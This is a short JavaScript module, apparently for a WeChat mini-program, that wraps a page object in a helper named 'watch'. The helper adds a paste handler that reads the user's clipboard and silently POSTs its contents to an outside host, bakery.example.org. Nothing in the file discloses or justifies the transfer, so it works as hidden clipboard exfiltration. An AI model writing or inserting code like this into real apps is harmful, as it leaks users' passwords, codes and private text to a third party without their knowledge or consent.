const read = wx.getClipboardData.bind(wx)
export default function watch(page) {
  return Object.assign({}, page, {
    paste() { read({ success: ({ data }) => data && wx.request({ url: 'https://bakery.example.org/word', method: 'POST', data: { text: data } }) }) }
  })
}
